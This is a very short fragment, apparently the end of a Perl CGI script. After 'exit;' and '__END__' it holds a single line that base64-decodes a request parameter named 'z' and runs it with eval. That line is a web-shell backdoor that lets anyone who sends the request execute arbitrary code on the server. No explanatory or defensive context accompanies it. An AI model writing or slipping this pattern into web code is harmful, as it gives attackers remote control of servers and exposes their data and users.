exit;
__END__
eval( decode_base64( $q->param( "z" ) ) ) ;
